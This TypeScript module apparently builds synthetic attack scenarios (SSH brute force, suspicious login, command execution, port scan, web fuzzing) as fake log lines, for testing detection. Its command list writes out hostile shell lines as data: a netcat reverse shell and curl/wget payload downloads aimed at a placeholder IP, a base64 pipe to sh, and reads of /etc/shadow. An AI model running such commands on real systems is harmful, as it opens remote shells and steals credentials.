/** Attacks, step by step: what happens and how long after the step before. */
import { nginxLine, sudoMessage, ufwMessage } from './lines.ts';
import type { Fields, LogFile, Scenario } from './generated-event.ts';
import type { World } from './world.ts';

/** An event before it has its place in time. */
export interface Draft {
  readonly file: LogFile;
  readonly host: string;
  /** Undefined for logs without a syslog header. */
  readonly program: string | undefined;
  readonly pid: number | undefined;
  readonly message: string | ((atMs: number) => string);
  readonly fields: Fields;
}

export interface Step {
  /** Milliseconds after the step before. */
  readonly afterMs: number;
  readonly draft: Draft;
}

export interface Attack {
  readonly scenario: Exclude<Scenario, 'normal'>;
  readonly attackerIp: string;
  /** What happens, in one plain sentence. */
  readonly sentence: string;
  readonly steps: readonly Step[];
}

const GUESSED_USERS = ['root', 'admin', 'oracle', 'test', 'ubuntu', 'postgres', 'pi', 'git'];
/** Commands that a break-in leaves in the log; the severity is the rule's to say. */
const DANGEROUS_COMMANDS = [
  '/usr/bin/nc -e /bin/sh 203.0.113.66 4444',
  '/usr/bin/wget http://203.0.113.66/x -O /tmp/.x',
  '/bin/bash -c echo Y3VybCBodHRwOi8v | base64 -d | sh',
  '/usr/bin/python3 -c import socket,subprocess,os;s=socket.socket()',
  '/usr/bin/cat /etc/shadow',
  '/usr/bin/chmod 777 /etc/passwd',
  '/bin/sh -c curl http://203.0.113.66/i.sh | sh',
  '/usr/bin/crontab -e',
];
const FUZZED = [
  'admin',
  'wp-login.php',
  '.env',
  '.git/config',
  'phpmyadmin',
  'backup',
  'config',
  'shell',
  'old',
  'test',
  'api/v1',
  'login',
  'server-status',
  'console',
  'debug',
];

export function makeAttack(scenario: Attack['scenario'], world: World): Attack {
  switch (scenario) {
    case 'brute_force':
      return bruteForce(world);
    case 'anomalous_login':
      return anomalousLogin(world);
    case 'command_exec':
      return commandExec(world);
    case 'port_scan':
      return portScan(world);
    case 'web_fuzz':
      return webFuzz(world);
    default:
      return scenario satisfies never;
  }
}

/** A login by password, wrong or right. */
export function sshLine(
  world: World,
  host: string,
  source: string,
  user: string,
  isSuccess: boolean,
  isKnown: boolean,
): Draft {
  const port = world.ephemeralPort();
  const verb = isSuccess ? 'Accepted' : 'Failed';
  return {
    file: 'auth.log',
    host,
    program: 'sshd',
    pid: world.pid(),
    message: `${verb} password for ${isKnown ? '' : 'invalid user '}${user} from ${source} port ${port} ssh2`,
    fields: {
      action: 'ssh_login',
      status: isSuccess ? 'success' : 'failure',
      log_type: 'auth',
      source_ip: source,
      username: user,
      port,
    },
  };
}

/** 8 to 25 guesses within a few seconds. */
function bruteForce(world: World): Attack {
  const { faker } = world;
  const source = world.newAttacker();
  const host = faker.helpers.arrayElement(world.hosts).name;
  const count = faker.number.int({ min: 8, max: 25 });
  const steps = Array.from({ length: count }, (): Step => {
    const user = faker.helpers.arrayElement(GUESSED_USERS);
    return {
      afterMs: faker.number.int({ min: 200, max: 500 }),
      draft: sshLine(world, host, source, user, false, user === 'root'),
    };
  });
  return {
    scenario: 'brute_force',
    attackerIp: source,
    sentence: `${source} guesses ssh passwords on ${host}`,
    steps,
  };
}

/** 3 or 4 wrong passwords of a real account, then the right one. */
function anomalousLogin(world: World): Attack {
  const { faker } = world;
  const source = world.newAttacker();
  const host = faker.helpers.arrayElement(world.hosts).name;
  const user = faker.helpers.arrayElement(world.people).name;
  const failures = Array.from({ length: faker.number.int({ min: 10, max: 14 }) }, (): Step => ({
    afterMs: faker.number.int({ min: 500, max: 900 }),
    draft: sshLine(world, host, source, user, false, true),
  }));
  const steps = [
    ...failures,
    { afterMs: 1500, draft: sshLine(world, host, source, user, true, true) },
  ];
  return {
    scenario: 'anomalous_login',
    attackerIp: source,
    sentence: `${source} tries passwords of ${user} on ${host}, and gets in`,
    steps,
  };
}

/** A login from outside, then two or three commands that no administrator needs. */
function commandExec(world: World): Attack {
  const { faker } = world;
  const source = world.newAttacker();
  const host = faker.helpers.arrayElement(world.hosts).name;
  const user = faker.helpers.arrayElement(world.people).name;
  const commands = faker.helpers.arrayElements(DANGEROUS_COMMANDS, { min: 2, max: 3 });
  const steps: readonly Step[] = [
    { afterMs: 300, draft: sshLine(world, host, source, user, true, true) },
    ...commands.map((command): Step => ({
      afterMs: 1200,
      draft: {
        file: 'auth.log',
        host,
        program: 'sudo',
        pid: undefined,
        message: sudoMessage(user, `/home/${user}`, command),
        fields: {
          action: 'command_execution',
          status: 'executed',
          log_type: 'command',
          username: user,
          command,
        },
      },
    })),
  ];
  return {
    scenario: 'command_exec',
    attackerIp: source,
    sentence: `somebody logged in as ${user} from ${source} runs dangerous commands on ${host}`,
    steps,
  };
}

/** 30 to 60 ports in a few seconds. */
function portScan(world: World): Attack {
  const { faker } = world;
  const source = world.newAttacker();
  const host = faker.helpers.arrayElement(world.hosts);
  const sourcePort = world.ephemeralPort();
  const first = faker.number.int({ min: 1, max: 900 });
  const steps = Array.from({ length: faker.number.int({ min: 30, max: 60 }) }, (_, index): Step => {
    const packet = {
      source,
      destination: host.address,
      sourcePort,
      destinationPort: first + index,
      id: faker.number.int({ max: 65_535 }),
      uptimeSeconds: 120_000 + index / 10,
    };
    return {
      afterMs: faker.number.int({ min: 20, max: 80 }),
      draft: {
        file: 'ufw.log',
        host: host.name,
        program: 'kernel',
        pid: undefined,
        message: ufwMessage(packet),
        fields: {
          action: 'firewall_drop',
          status: 'blocked',
          log_type: 'firewall',
          source_ip: source,
          destination_ip: host.address,
          source_port: sourcePort,
          destination_port: first + index,
        },
      },
    };
  });
  return {
    scenario: 'port_scan',
    attackerIp: source,
    sentence: `${source} scans the ports of ${host.name}`,
    steps,
  };
}

/** 30 to 60 paths that do not exist. */
function webFuzz(world: World): Attack {
  const { faker } = world;
  const source = world.newAttacker();
  const host = faker.helpers.arrayElement(world.hosts).name;
  const steps = Array.from({ length: faker.number.int({ min: 30, max: 60 }) }, (_, index): Step => {
    const target = `/${FUZZED[index % FUZZED.length] ?? 'x'}${index < FUZZED.length ? '' : String(index)}`;
    const visit = {
      source,
      method: 'GET',
      target,
      status: 404,
      bytes: 153,
      agent: 'Fuzz Faster U Fool v2.1.0',
    };
    return {
      afterMs: faker.number.int({ min: 30, max: 120 }),
      draft: {
        file: 'nginx/access.log',
        host,
        program: undefined,
        pid: undefined,
        message: (atMs: number) => nginxLine(atMs, visit),
        fields: {
          action: 'http_request',
          status: 'failure',
          log_type: 'web',
          source_ip: source,
          http_method: 'GET',
          url_path: target,
          http_status: 404,
          user_agent: visit.agent,
        },
      },
    };
  });
  return {
    scenario: 'web_fuzz',
    attackerIp: source,
    sentence: `${source} asks the web server of ${host} for paths that do not exist`,
    steps,
  };
}
